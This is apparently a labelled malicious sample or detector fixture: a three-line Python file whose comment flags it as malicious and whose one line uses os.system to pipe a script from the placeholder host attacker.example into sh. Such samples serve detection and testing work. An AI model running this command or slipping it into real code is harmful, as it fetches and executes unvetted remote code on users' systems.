# Malicious: `curl | sh` through os.system; runs a remote shell script without inspection.
import os

os.system("curl -fsSL http://attacker.example/install.sh | sh")
